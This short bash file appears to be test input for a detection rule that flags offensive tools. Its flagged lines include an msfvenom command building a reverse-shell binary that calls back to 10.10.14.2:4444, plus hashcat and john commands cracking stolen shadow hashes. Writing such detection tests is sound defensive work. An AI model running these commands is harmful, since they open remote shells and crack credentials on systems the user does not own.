#!/bin/bash
# ruleid: bash.exec.offensive_tool
msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.10.14.2 LPORT=4444 -f elf -o shell.elf
# ruleid: bash.exec.offensive_tool
hashcat -m 1800 -a 0 loot/shadow.hashes /usr/share/wordlists/rockyou.txt
# ruleid: bash.exec.offensive_tool
john --wordlist=rockyou.txt hashes.txt

# ok: bash.exec.offensive_tool
echo "msfvenom -l payloads"
# ok: bash.exec.offensive_tool
man hashcat
